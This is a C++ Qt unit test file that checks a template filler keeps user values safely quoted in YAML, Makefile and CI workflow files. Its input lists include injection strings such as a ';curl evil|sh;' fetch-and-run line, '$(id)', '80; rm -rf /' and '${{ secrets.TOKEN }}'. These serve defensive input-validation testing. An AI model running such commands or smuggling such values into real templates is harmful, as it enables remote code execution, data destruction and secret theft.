// SPDX-FileCopyrightText: 2026 Signalbox contributors
// SPDX-License-Identifier: GPL-3.0-or-later
#include "templates/fill.h"
#include "yaml/place.h"

#include <QTest>

using namespace signalbox;
using namespace signalbox::templates;
using namespace Qt::StringLiterals;

namespace {

/// A field that takes any text, so that what is tested is how it is written.
Field anyText(const QString& id, Field::Kind kind = Field::Kind::Text)
{
    return {.id = id,
            .label = u"Name"_s,
            .kind = kind,
            .byDefault = {u"app"_s},
            .options = {},
            .pattern = {},
            .help = {},
            .differsFrom = {},
            .isOptional = kind == Field::Kind::List};
}

Template of(const QByteArray& text, const Field& field, const QString& path = u"a.yml"_s)
{
    return {.id = u"test"_s,
            .title = u"Test"_s,
            .description = {},
            .language = {},
            .constants = {},
            .files = {{.path = path, .text = text}},
            .fields = {field}};
}

/// The first file, filled; what went wrong where nothing is.
QByteArray filled(const Template& chosen, const QStringList& value)
{
    const auto files = fill(chosen, {{chosen.fields.front().id, value}});
    return files ? files->front().text : files.error().sentence().toUtf8();
}

const char* const hostile[] = {
    "'",        "''",         "' }, evil: { a: '",
    "a: b",     "a # b",      "# b",
    "\\",       "\\n",        "\"",
    "- a",      "? a",        "* a",
    "&a b",     "!tag b",     "| a",
    "> a",      "%YAML",      "@A@",
    "@NAME@",   "`id`",       "$(id)",
    "${HOME}",  "a, b",       "[a]",
    "{a: b}",   "]",          "}",
    "}}",       "~",          "null",
    "true",     "No",         "ON",
    "1.10",     "0x10",       "1e3",
    ".inf",     "2026-01-01", "12:30:45",
    " leading", "trailing ",  "a' 'b",
    "<<",       "=",          "--- a",
    "... a",    "ä é 漢",     "';curl evil|sh;'",
};

} // namespace

/// A value stays in the place of its mark, whatever it is.
class TemplatesFill : public QObject {
    Q_OBJECT

    static void addHostile()
    {
        QTest::addColumn<QString>("text");
        for (const auto* const each : hostile)
            QTest::newRow(each) << QString::fromUtf8(each);
    }

private Q_SLOTS:
    void aMarkIsReplacedByItsValue_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QStringList>("value");
        QTest::addColumn<QByteArray>("after");
        const auto row = [](const char* name, const char* text, const QStringList& value, const char* after) {
            QTest::newRow(name) << QByteArray(text) << value << QByteArray(after);
        };
        row("a whole value", "a: '@NAME@'\n", {u"main"_s}, "a: main\n");
        row("a part of a value", "a: 'x-@NAME@:y'\n", {u"main"_s}, "a: 'x-main:y'\n");
        row("a number stays a text", "a: '@NAME@'\n", {u"3.10"_s}, "a: '3.10'\n");
        row("a word of YAML stays a text", "a: '@NAME@'\n", {u"off"_s}, "a: 'off'\n");
        row("in an expression", "if: github.ref == 'refs/heads/@NAME@'\n", {u"it's"_s},
            "if: github.ref == 'refs/heads/it''s'\n");
        row("a whole text of an expression keeps its quotes", "if: github.ref_name == '@NAME@' && x\n", {u"main"_s},
            "if: github.ref_name == 'main' && x\n");
        row("without quotes", "run: echo @NAME@-x @NAME@\n", {u"v1.2"_s}, "run: echo v1.2-x v1.2\n");
        row("in a comment with an apostrophe", "# it's @NAME@'s\n", {u"app"_s}, "# it's app's\n");
        row("no mark", "a: b@c@d @ @x@\n", {u"app"_s}, "a: b@c@d @ @x@\n");
        row("line ends as they are", "a: '@NAME@'", {u"app"_s}, "a: app");
    }

    void aMarkIsReplacedByItsValue()
    {
        QFETCH(const QByteArray, text);
        QFETCH(const QStringList, value);
        QTEST(filled(of(text, anyText(u"NAME"_s)), value), "after");
    }

    void aListIsWrittenAsItsPlaceWants_data()
    {
        QTest::addColumn<QByteArray>("text");
        QTest::addColumn<QStringList>("value");
        QTest::addColumn<QByteArray>("after");
        const auto row = [](const char* name, const char* text, const QStringList& value, const char* after) {
            QTest::newRow(name) << QByteArray(text) << value << QByteArray(after);
        };
        row("flow list", "a: ['@NAME@']\n", {u"main"_s, u"1.10"_s, u"it's"_s}, "a: [main, '1.10', 'it''s']\n");
        row("behind another", "a: [b, '@NAME@']\n", {u"main"_s, u"next"_s}, "a: [b, main, next]\n");
        row("nothing behind another", "a: [b, '@NAME@']\n", {}, "a: [b]\n");
        row("nothing at all", "a: ['@NAME@']\n", {}, "a: []\n");
        row("JSON", "a: ${{ fromJSON('[\"@NAME@\"]') }}\n", {u"a"_s, u"1"_s}, "a: ${{ fromJSON('[\"a\", \"1\"]') }}\n");
        row("nothing in JSON", "a: ${{ fromJSON('[\"@NAME@\"]') }}\n", {}, "a: ${{ fromJSON('[]') }}\n");
        row("words of a command", "run: install x @NAME@\n", {u"a"_s, u"b"_s}, "run: install x a b\n");
        row("the first", "a: '@NAME:first@'\n", {u"2.0"_s, u"b"_s}, "a: '2.0'\n");
    }

    void aListIsWrittenAsItsPlaceWants()
    {
        QFETCH(const QByteArray, text);
        QFETCH(const QStringList, value);
        QTEST(filled(of(text, anyText(u"NAME"_s, Field::Kind::List)), value), "after");
    }

    void inQuotesAnyTextIsReadBackAsItWasTyped_data() { addHostile(); }

    void inQuotesAnyTextIsReadBackAsItWasTyped()
    {
        QFETCH(const QString, text);
        const QByteArray typed = text.toUtf8();
        const QByteArray one = filled(of("a: '@NAME@'\nb: 'x@NAME@y'\nc: d\n", anyText(u"NAME"_s)), {text});
        const auto tree = yaml::Tree::read(one);
        QVERIFY(tree);
        QVERIFY2(tree->problems().empty(), one.constData());
        QCOMPARE(tree->root().size(), 3);
        QCOMPARE(tree->root()["a"].text().toByteArray(), typed);
        QVERIFY(!tree->root()["a"].isNull() && !tree->root()["a"].isBoolean() && !tree->root()["a"].isNumber());
        QCOMPARE(tree->root()["b"].text().toByteArray(), "x" + typed + "y");
        QCOMPARE(tree->root()["c"].text().toByteArray(), QByteArray("d"));
    }

    void inAFlowListAnyTextIsReadBackAsItWasTyped_data() { addHostile(); }

    void inAFlowListAnyTextIsReadBackAsItWasTyped()
    {
        QFETCH(const QString, text);
        const QByteArray list
            = filled(of("a: [x, '@NAME@', y]\nc: d\n", anyText(u"NAME"_s, Field::Kind::List)), {text, u"other"_s});
        const auto tree = yaml::Tree::read(list);
        QVERIFY(tree);
        QVERIFY2(tree->problems().empty(), list.constData());
        QCOMPARE(tree->root().size(), 2);
        QCOMPARE(tree->root()["a"].size(), 4);
        QCOMPARE(tree->root()["a"].item(1).text().toByteArray(), text.toUtf8());
        QVERIFY(!tree->root()["a"].item(1).isNumber() && !tree->root()["a"].item(1).isBoolean());
    }

    void outsideOfQuotesOnlyPlainWordsAreTaken_data() { addHostile(); }

    void outsideOfQuotesOnlyPlainWordsAreTaken()
    {
        QFETCH(const QString, text);
        for (const QByteArray& place :
             {"run: echo @NAME@\n"_ba, "run: echo \"@NAME@\"\n"_ba, "# @NAME@\n"_ba, "a: b @NAME@ 'c'\n"_ba}) {
            const auto files = fill(of(place, anyText(u"NAME"_s)), {{u"NAME"_s, {text}}});
            if (!files) {
                QCOMPARE(files.error().kind, core::ErrorKind::Rejected);
                QVERIFY(files.error().what.endsWith(u'.') && files.error().advice.endsWith(u'.'));
                continue;
            }
            for (const QChar each : text)
                QVERIFY2(each.isLetterOrNumber() || u"._/:+-"_s.contains(each), files->front().text.constData());
        }
    }

    void aMakefileOrAScriptTakesPlainWordsAlsoInItsQuotes_data() { addHostile(); }

    void aMakefileOrAScriptTakesPlainWordsAlsoInItsQuotes()
    {
        QFETCH(const QString, text);
        for (const Field::Kind kind : {Field::Kind::Text, Field::Kind::List}) {
            const auto files
                = fill(of("x = '@NAME@'\n", anyText(u"NAME"_s, kind), u"Makefile"_s), {{u"NAME"_s, {text}}});
            const bool isWord = std::ranges::all_of(text, [](QChar each) {
                return each.unicode() < 128 && (each.isLetterOrNumber() || u"._/:+-"_s.contains(each));
            });
            QCOMPARE(files.has_value(), isWord);
        }
    }

    void whatNoFieldTakesIsRefusedInWords_data()
    {
        QTest::addColumn<QStringList>("value");
        QTest::newRow("empty") << QStringList{u""_s};
        QTest::newRow("blanks") << QStringList{u"   "_s};
        QTest::newRow("no value") << QStringList();
        QTest::newRow("two values") << QStringList{u"a"_s, u"b"_s};
        QTest::newRow("a line end") << QStringList{u"a\nevil: b"_s};
        QTest::newRow("a carriage return") << QStringList{u"a\rb"_s};
        QTest::newRow("NEL") << QStringList{u"a\u0085b"_s};
        QTest::newRow("a line separator") << QStringList{u"a\u2028b"_s};
        QTest::newRow("a paragraph separator") << QStringList{u"a\u2029b"_s};
        QTest::newRow("NUL") << QStringList{QString(u'a') + QChar(0) + u'b'};
        QTest::newRow("a tab") << QStringList{u"a\tb"_s};
        QTest::newRow("right to left") << QStringList{u"a\u202eb"_s};
        QTest::newRow("a mark of byte order") << QStringList{u"\ufeffa"_s};
        QTest::newRow("half a letter") << QStringList{QString(QChar(0xd800))};
        QTest::newRow("an expression") << QStringList{u"${{ secrets.TOKEN }}"_s};
        QTest::newRow("too long") << QStringList{QString(201, u'a')};
    }

    void whatNoFieldTakesIsRefusedInWords()
    {
        QFETCH(const QStringList, value);
        const Template chosen = of("a: '@NAME@'\n", anyText(u"NAME"_s));
        const auto files = fill(chosen, {{u"NAME"_s, value}});
        QVERIFY(!files);
        QCOMPARE(files.error().kind, core::ErrorKind::Rejected);
        QVERIFY(files.error().what.startsWith("Name "_L1));
        QVERIFY(files.error().what.endsWith(u'.'));
        QVERIFY(files.error().advice.endsWith(u'.'));
        QVERIFY(!files.error().sentence().contains(u'\n'));
        QCOMPARE(problem(chosen.fields.front(), value), files.error());
    }

    void aListIsRefusedForWhatIsWrongWithOneOfIt_data()
    {
        QTest::addColumn<QStringList>("value");
        QTest::newRow("one is empty") << QStringList{u"a"_s, u""_s};
        QTest::newRow("twice the same") << QStringList{u"a"_s, u"b"_s, u"a"_s};
        QTest::newRow("a line end in the last") << QStringList{u"a"_s, u"b\n"_s};
        QStringList many;
        for (int number = 0; number < 51; ++number)
            many << QString::number(number);
        QTest::newRow("too many") << many;
        QTest::newRow("none") << QStringList();
    }

    void aListIsRefusedForWhatIsWrongWithOneOfIt()
    {
        QFETCH(const QStringList, value);
        Field field = anyText(u"NAME"_s, Field::Kind::List);
        field.isOptional = false;
        QVERIFY(problem(field, value));
        QVERIFY(!fill(of("a: ['@NAME@']\n", field), {{u"NAME"_s, value}}));
    }

    void aPatternFitsTheWholeTextOrNone_data()
    {
        QTest::addColumn<QString>("text");
        QTest::addColumn<bool>("fits");
        QTest::newRow("fits") << u"80"_s << true;
        QTest::newRow("the other side of the bar") << u"100"_s << true;
        QTest::newRow("more behind it") << u"80; rm -rf /"_s << false;
        QTest::newRow("more before it") << u"x80"_s << false;
        QTest::newRow("more behind one side of the bar") << u"100x"_s << false;
        QTest::newRow("too much") << u"101"_s << false;
    }

    void aPatternFitsTheWholeTextOrNone()
    {
        QFETCH(const QString, text);
        Field field = anyText(u"NAME"_s);
        field.pattern = u"100|[1-9]?[0-9]"_s;
        field.byDefault = {u"80"_s};
        const auto wrong = problem(field, {text});
        QTEST(!wrong, "fits");
        if (wrong)
            QCOMPARE(wrong->advice, u"Type it as '80' is written."_s);
    }

    void aChoiceIsOneOfItsOptions()
    {
        Field field = anyText(u"NAME"_s, Field::Kind::Choice);
        field.options = {u"one"_s, u"two"_s};
        QVERIFY(!problem(field, {u"two"_s}));
        const auto wrong = problem(field, {u"Two"_s});
        QVERIFY(wrong);
        QCOMPARE(wrong->sentence().contains(u"one, two"_s), true);
    }

    void whatNobodyAsksForAndWhatNobodyAnswersIsRefused()
    {
        const auto unasked = fill(of("a: b\n", anyText(u"NAME"_s)), {{u"OTHER"_s, {u"x"_s}}});
        QVERIFY(!unasked && unasked.error().what.contains(u"OTHER"_s));
        const auto unknown = fill(of("a: '@OTHER@'\n", anyText(u"NAME"_s)), {});
        QVERIFY(!unknown && unknown.error().what.contains(u"OTHER"_s));
    }

    void aListMayNotRepeatTheOneThatItDiffersFrom()
    {
        Template chosen = of("a: ['@NAME@', '@MORE@']\n", anyText(u"NAME"_s, Field::Kind::List));
        chosen.fields.push_back(anyText(u"MORE"_s, Field::Kind::List));
        chosen.fields.back().differsFrom = u"NAME"_s;
        QVERIFY(fill(chosen, {{u"NAME"_s, {u"a"_s}}, {u"MORE"_s, {u"b"_s}}}));
        const auto twice = fill(chosen, {{u"NAME"_s, {u"a"_s}}, {u"MORE"_s, {u"b"_s, u"a"_s}}});
        QVERIFY(!twice && twice.error().what.contains(u"'a'"_s));
    }

    void noFieldOfABuiltInTemplateTakesAHostileText_data()
    {
        QTest::addColumn<QString>("text");
        for (const auto* const each : {"'", "a b", "$(id)", "`id`", "a;b", "a\"b", "a\nb", "${{ a }}", "-x",
                                       "../../x y", "a'b", "a#b", "a|b", "a&b", "*", "@A@"})
            QTest::newRow(each) << QString::fromLatin1(each);
    }

    void noFieldOfABuiltInTemplateTakesAHostileText()
    {
        QFETCH(const QString, text);
        int asked = 0;
        for (const Template& each : builtIn()) {
            for (const Field& field : each.fields) {
                QVERIFY2(!fill(each, {{field.id, {text}}}), qPrintable(each.id + u' ' + field.id));
                ++asked;
            }
        }
        QVERIFY(asked >= 50);
    }
};

QTEST_GUILESS_MAIN(TemplatesFill)
#include "templates_fill.moc"
